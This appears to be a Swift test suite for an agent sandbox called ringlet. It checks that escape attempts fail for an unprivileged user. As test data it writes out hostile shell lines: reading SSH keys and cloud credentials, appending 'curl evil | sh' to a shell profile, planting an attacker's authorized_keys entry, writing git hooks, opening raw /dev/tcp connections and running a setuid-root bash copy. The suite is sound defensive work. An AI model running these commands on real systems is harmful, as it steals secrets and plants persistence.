import Foundation
import RingletTestSupport
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// `ringlet run --agent shell` as an attacker would use it from a normal user's account: the escapes of
/// `RunSandboxTests`, run by an unprivileged user (see `UnprivilegedUser` for why root's run is not
/// enough). Each case is a shell line run inside the real sandbox that must fail in the stated way and
/// leave the host unchanged; where the same line would work outside the sandbox for this user, a
/// control proves it, so no case can pass only because the user lacks a permission.
@Suite(.enabled(if: getuid() == 0, "needs root to create the unprivileged user"))
struct RunAsUserTests {
    /// The user's own world: a HOME with secrets, a project (a git repository with a hook) in it, a
    /// RINGLET_HOME with another profile's home, all owned by the user.
    struct World {
        let tree: UnprivilegedWorld
        var user: UnprivilegedUser { tree.user }

        init() throws {
            tree = try UnprivilegedWorld(user: try UnprivilegedUser.ensure())
            try tree.write("ssh key\n", to: tree.home + "/.ssh/id_rsa", mode: 0o600)
            try tree.write("github.com ssh-ed25519 AAAA\n", to: tree.home + "/.ssh/known_hosts")
            try tree.write("[default]\naws_secret_access_key = x\n", to: tree.home + "/.aws/credentials", mode: 0o600)
            try tree.write("# the user's profile\n", to: tree.home + "/.profile")
            try tree.write("other profile's history\n", to: tree.ringletHome + "/data/homes/other/.bash_history", mode: 0o600)
            try tree.write("#!/bin/sh\n", to: tree.project + "/.git/hooks/pre-commit", mode: 0o755)
        }

        /// `<home>` (the user's real HOME), `<ringlet-home>` and `<ws>` written out: the sandbox's
        /// environment is not the host's, so the line names the host's paths itself.
        func expand(_ script: String) -> String {
            script.replacingOccurrences(of: "<ringlet-home>", with: tree.ringletHome)
                .replacingOccurrences(of: "<home>", with: tree.home)
                .replacingOccurrences(of: "<ws>", with: tree.project)
        }

        /// Runs `script` with bash inside the sandbox, as the user, in the project; `environment` is
        /// added to ringlet's own.
        func sandboxed(_ script: String, environment: [String: String] = [:]) throws -> ProcessResult {
            try tree.ringlet(["run", "--agent", "shell", "--", "-c", expand(script)], environment: environment)
        }

        /// Runs `script` with bash as the user, in the project, without any sandbox: the control.
        func outside(_ script: String) throws -> ProcessResult {
            try tree.run("/bin/bash", ["-c", expand(script)])
        }

        /// Host paths an escaping write would create or change, with their bytes (nil: absent).
        var watched: [String] {
            [tree.home + "/escape", tree.home + "/.profile", tree.home + "/.ssh/authorized_keys", tree.home + "/.ssh/id_rsa",
             tree.project + "/.git/hooks/pre-commit", tree.project + "/.git/hooks/post-checkout", tree.project + "/.git/config",
             "/etc/ringlet-asuser-escape"]
        }

        func hostSnapshot() -> [String: Data?] {
            Dictionary(uniqueKeysWithValues: watched.map { ($0, FileManager.default.contents(atPath: $0)) })
        }
    }

    /// What differs between two snapshots, for the failure message.
    static func changes(_ before: [String: Data?], _ after: [String: Data?]) -> [String] {
        before.keys.sorted().filter { before[$0] != after[$0] }
    }

    @Test(arguments: [
        ("cat ~/.ssh/id_rsa", "the user's ssh key through ~"),
        ("cat <home>/.ssh/id_rsa", "the user's ssh key"),
        ("cat <home>/.aws/credentials", "the user's cloud credentials"),
        ("cat <ringlet-home>/data/homes/other/.bash_history", "another profile's home"),
        ("cat <ringlet-home>/state/proxy.jsonl", "ringlet's decision log"),
        ("ls <ringlet-home>/data/homes/other", "another profile's home folder"),
    ])
    func secretsCannotBeRead(script: String, what: String) throws {
        let world = try World()
        let result = try world.sandboxed(script)
        #expect(result.status != 0, "\(what) was readable: \(result)")
        #expect(result.stderr.contains("No such file or directory") || result.stderr.contains("Permission denied"), "\(what): \(result)")
        #expect(!result.stdout.contains("ssh key") && !result.stdout.contains("aws_secret") && !result.stdout.contains("history")
                && !result.stdout.contains("verdict") && !result.stdout.contains("other"), "\(what): \(result)")
        // The control: outside the sandbox the user reads it (the run above made the decision log).
        let control = try world.outside(script)
        #expect(control.status == 0, "control: \(what) is not readable by the user even outside: \(control)")
    }

    @Test(arguments: [
        ("touch /etc/ringlet-asuser-escape", "/etc"),
        ("echo x >> .git/hooks/pre-commit", "an existing git hook"),
        ("echo '#!/bin/sh' > .git/hooks/post-checkout", "a new git hook"),
        ("echo x >> .git/config", "the repository's git config"),
    ])
    func writesOutsideTheWorkspaceFail(script: String, place: String) throws {
        let world = try World()
        let before = world.hostSnapshot()
        let result = try world.sandboxed(script)
        #expect(result.status != 0, "writing \(place) worked: \(result)")
        #expect(result.stderr.contains("Read-only file system") || result.stderr.contains("Permission denied"), "\(result)")
        let changed = Self.changes(before, world.hostSnapshot())
        #expect(changed.isEmpty, "writing \(place) changed the host: \(changed) \(result)")
        // The control: the repository's hooks and config are the user's own, writable outside.
        let control = try world.outside("test -w .git/hooks && test -w .git/hooks/pre-commit && test -w .git/config")
        #expect(control.status == 0, "control: \(control)")
    }

    /// A symlink placed in the workspace leads into the user's real HOME. Whatever the sandbox shows at
    /// that path (how HOME is presented inside is not this test's business), a write through the link
    /// must never reach the real HOME on the host. The control: outside, the same line does.
    @Test(arguments: [
        ("<home>", "echo x > link/escape", "into the user's HOME"),
        ("<home>/.profile", "echo 'curl evil | sh' >> link", "onto the user's shell profile"),
        ("<home>/.ssh", "echo ssh-ed25519 AAAA attacker > link/authorized_keys", "into the user's ~/.ssh"),
    ])
    func writesThroughASymlinkNeverReachTheRealHome(target: String, script: String, what: String) throws {
        let world = try World()
        try world.tree.symlink(world.tree.project + "/link", to: world.expand(target))
        let before = world.hostSnapshot()
        let result = try world.sandboxed(script + "; echo attempted")
        #expect(result.stdout.hasSuffix("attempted\n"), "the line did not run: \(result)")
        let changed = Self.changes(before, world.hostSnapshot())
        #expect(changed.isEmpty, "writing \(what) through a symlink changed the host: \(changed) \(result)")
        let control = try world.outside(script)
        #expect(control.status == 0 && !Self.changes(before, world.hostSnapshot()).isEmpty, "control: \(control)")
    }

    @Test func writesThroughASymlinkToEtcFail() throws {
        let world = try World()
        try world.tree.symlink(world.tree.project + "/link", to: "/etc")
        let before = world.hostSnapshot()
        let result = try world.sandboxed("touch link/ringlet-asuser-escape")
        #expect(result.status != 0, "writing into /etc through a symlink worked: \(result)")
        #expect(result.stderr.contains("Read-only file system") || result.stderr.contains("Permission denied"), "\(result)")
        let changed = Self.changes(before, world.hostSnapshot())
        #expect(changed.isEmpty, "writing into /etc through a symlink changed the host: \(changed) \(result)")
    }

    @Test func onlySandboxProcessesAreVisibleAndHostProcessesCannotBeSignalled() throws {
        let world = try World()
        // A process of the same user outside the sandbox: the user may signal it, the agent must not.
        let neighbour = try world.user.start("/bin/sleep", ["600"], in: world.tree.project, environment: world.tree.environment())
        defer { neighbour.forceStop() }
        let control = try world.outside("kill -0 \(neighbour.pid) && echo signalled")
        #expect(control.stdout == "signalled\n", "control: the user cannot signal their own process: \(control)")

        let result = try world.sandboxed("""
        ls /proc | grep -c '^[0-9]'
        kill -0 \(getpid()) 2>/dev/null && echo signalled || echo refused
        kill -0 \(neighbour.pid) 2>/dev/null && echo signalled || echo refused
        """)
        let lines = result.stdout.split(separator: "\n")
        #expect(result.status == 0, "\(result)")
        #expect(lines.count == 3, "\(result)")
        #expect((Int(lines.first ?? "") ?? 99) <= 5, "host processes are visible: \(result)")
        #expect(lines.dropFirst().elementsEqual(["refused", "refused"]), "a host process was signalled: \(result)")
        #expect(neighbour.isRunning)
    }

    @Test func theEnvironmentHoldsNoHostSecrets() throws {
        let world = try World()
        let result = try world.sandboxed("env", environment: [
            "AWS_SECRET_ACCESS_KEY": "leak-1", "GITHUB_TOKEN": "leak-2", "RINGLET_PROBE": "leak-3", "SSH_AUTH_SOCK": "/leak-4",
        ])
        #expect(result.status == 0, "\(result)")
        #expect(!result.stdout.contains("leak-"), "\(result.stdout)")
        #expect(!result.stdout.contains("RINGLET_HOME="), "\(result.stdout)")
        #expect(result.stdout.contains("PATH="), "\(result)")
    }

    /// No network but the proxy: a raw TCP connect to the internet and to a server on the host's own
    /// loopback both fail, and names do not resolve. The loopback server shows the way is really shut:
    /// outside, the user reaches it.
    @Test func rawConnectionsAndDNSGoNowhere() throws {
        let world = try World()
        let site = world.tree.root + "/site"
        try world.tree.write("hello from the host\n", to: site + "/index.txt")
        let server = try HTTPFileServer(serving: site)
        defer { server.stop() }
        let connect = { (host: String, port: Int) in
            "if timeout 30 bash -c 'exec 3<>/dev/tcp/\(host)/\(port)'; then echo connected; else echo refused; fi"
        }
        let control = try world.outside(connect("127.0.0.1", server.port))
        #expect(control.stdout == "connected\n", "control: the host's loopback server is unreachable even outside: \(control)")

        let result = try world.sandboxed("""
        \(connect("1.1.1.1", 80))
        \(connect("127.0.0.1", server.port))
        getent hosts example.com || echo no-dns
        """)
        #expect(result.stdout == "refused\nrefused\nno-dns\n", "\(result)")
    }

    /// The seccomp filter (and bwrap's --disable-userns) refuse a new user namespace, which the user may
    /// create outside.
    @Test func newUserNamespacesAreRefused() throws {
        let world = try World()
        let control = try world.outside("unshare -U true")
        #expect(control.status == 0, "control: the user cannot create a user namespace even outside: \(control)")
        let result = try world.sandboxed("unshare -U true")
        #expect(result.status != 0, "\(result)")
        #expect(result.stderr.contains("Operation not permitted"), "\(result)")
    }

    /// The agent holds only its own standard descriptors: nothing ringlet or bwrap opened (a host file,
    /// a socket, the bwrap options or the seccomp program in a memfd, a control pipe) reaches it.
    @Test func onlyTheShellsOwnDescriptorsAreOpen() throws {
        let world = try World()
        let result = try world.sandboxed("ls -l /proc/self/fd")
        #expect(result.status == 0, "\(result)")
        let entries = result.stdout.split(separator: "\n").compactMap { line -> (fd: Int, target: String)? in
            guard let arrow = line.range(of: " -> ") else { return nil }
            let fd = line[..<arrow.lowerBound].split(separator: " ").last.flatMap { Int($0) } ?? -1
            return (fd, String(line[arrow.upperBound...]))
        }
        #expect(entries.count >= 3, "\(result)")
        // What ringlet's caller holds (and so ringlet inherits), for the message: a descriptor found
        // inside may have come from there rather than from ringlet or bwrap.
        let given = try world.outside("ls -l /proc/self/fd")
        for entry in entries {
            let ownListing = entry.target.hasPrefix("/proc/") && entry.target.hasSuffix("/fd")
            let standard = entry.target == "/dev/null" || entry.target.hasPrefix("pipe:[") || entry.target.hasPrefix("/dev/pts/")
            #expect(ownListing || (standard && (0 ... 2).contains(entry.fd)),
                    "descriptor \(entry.fd) -> \(entry.target) reached the agent:\n\(result)\nringlet's caller holds:\n\(given.stdout)")
        }
    }

    /// A descriptor ringlet inherits from whoever started it (an editor, a terminal multiplexer, a
    /// script) must not reach the agent: an open host file would bypass the file-system view, a
    /// connected socket the network namespace. Here the caller opens the user's ssh key and a
    /// connection to a server on the host's loopback, then execs ringlet.
    @Test(arguments: [
        ("7<<home>/.ssh/id_rsa", "cat <&7", "ssh key", "an open host file"),
        ("7<>/dev/tcp/127.0.0.1/<port>", "printf 'GET /index.txt HTTP/1.0\\r\\n\\r\\n' >&7 && cat <&7", "hello from the host", "a connected socket"),
    ])
    func inheritedDescriptorsDoNotReachTheAgent(redirection: String, script: String, secret: String, what: String) throws {
        let world = try World()
        let site = world.tree.root + "/site"
        try world.tree.write("hello from the host\n", to: site + "/index.txt")
        let server = try HTTPFileServer(serving: site)
        defer { server.stop() }
        let open = "exec " + redirection.replacingOccurrences(of: "<port>", with: String(server.port))
        let control = try world.outside("\(open); \(script)")
        #expect(control.stdout.contains(secret), "control: the descriptor gives nothing even outside: \(control)")

        let result = try world.outside("\(open); exec \(world.tree.binary) run --agent shell -- -c \"\(script)\"")
        #expect(!result.stdout.contains(secret), "\(what) inherited by ringlet reached the agent: \(result)")
        #expect(result.status != 0 && result.stderr.contains("Bad file descriptor"), "\(result)")
    }

    /// As a normal user the sandbox starts every time (the network bridge joins the sandbox's network
    /// namespace from outside, which root can always do and a normal user only through the right user
    /// namespace).
    @Test func theSandboxStartsEveryTime() throws {
        let world = try World()
        var failures: [ProcessResult] = []
        for _ in 0 ..< 20 {
            let result = try world.sandboxed("true")
            if result.status != 0 { failures.append(result) }
        }
        #expect(failures.isEmpty, "\(failures.count) of 20 runs failed; the first: \(failures.first.map(String.init(describing:)) ?? "")")
    }

    /// A setuid-root program in the workspace gives no root inside: no uid 0 is mapped and setuid bits do
    /// not apply. The control runs it outside, as the user, and gets uid 0, so the file really is one.
    @Test func aSetuidRootProgramGivesNoRoot() throws {
        let world = try World()
        let rootbash = world.tree.project + "/rootbash"
        try FileManager.default.copyItem(atPath: "/bin/bash", toPath: rootbash)
        #expect(chown(rootbash, 0, 0) == 0)
        #expect(chmod(rootbash, 0o4755) == 0)

        var info = statvfs()
        let nosuid = statvfs(rootbash, &info) == 0 && info.f_flag & 2 != 0 // ST_NOSUID
        let control = try world.outside("./rootbash -p -c 'id -u'")
        if nosuid {
            withKnownIssue("\(world.tree.root) is on a nosuid file system: the setuid bit does nothing even outside, so this proves nothing") {
                #expect(control.stdout == "0\n", "control: \(control)")
            }
        } else {
            #expect(control.stdout == "0\n", "control: the copy is not setuid root outside the sandbox: \(control)")
        }

        let result = try world.sandboxed("./rootbash -p -c 'id -u'")
        #expect(result.stdout == "\(world.user.uid)\n", "the setuid-root program ran as root inside: \(result)")
    }

    /// The positive case: the user's workspace is writable and what is written there lands on the host,
    /// owned by the user.
    @Test func theWorkspaceIsWritable() throws {
        let world = try World()
        let result = try world.sandboxed("echo made > result.txt && echo ok")
        #expect(result.status == 0, "\(result)")
        #expect(result.stdout == "ok\n", "\(result)")
        let written = world.tree.project + "/result.txt"
        #expect(FileManager.default.contents(atPath: written) == Data("made\n".utf8), "\(result)")
        let owner = (try? FileManager.default.attributesOfItem(atPath: written)[.ownerAccountID] as? NSNumber)?.uint32Value
        #expect(owner == world.user.uid, "result.txt belongs to \(owner.map(String.init) ?? "nobody"), not \(world.user.uid)")
    }
}

extension RunAsUserTests {
    /// Without a writable cgroup (a normal user here) the limits are rlimits: RLIMIT_NPROC binds a normal
    /// user, and RLIMIT_DATA makes a large allocation fail.
    @Test func aForkBombStopsAtTheProcessLimit() throws {
        let world = try World()
        let result = try world.tree.ringlet(["run", "--agent", "shell", "--max-pids", "40", "--", "-c", RunLifecycleTests.forkBomb])
        let words = result.stdout.split(separator: " ")
        #expect(words.first == "refused", "\(result)")
        #expect((Int(words.dropFirst(2).first ?? "") ?? 999) < 40, "more processes than the limit: \(result)")
        #expect(result.stderr.contains("pids 40 for your user") || result.stderr.contains("limits: cgroup"), "\(result)")
    }

    @Test func aMemoryHogFailsInsideItsLimit() throws {
        let world = try World()
        let result = try world.tree.ringlet(["run", "--agent", "shell", "--memory", "96M", "--", "-c",
                                             "python3 -c 'b = bytearray(1 << 30); print(\"allocated\")'; echo \"status $?\""])
        #expect(!result.stdout.contains("allocated"), "\(result)")
        #expect(result.stdout.hasPrefix("status ") && !result.stdout.hasPrefix("status 0"), "\(result)")
    }
}
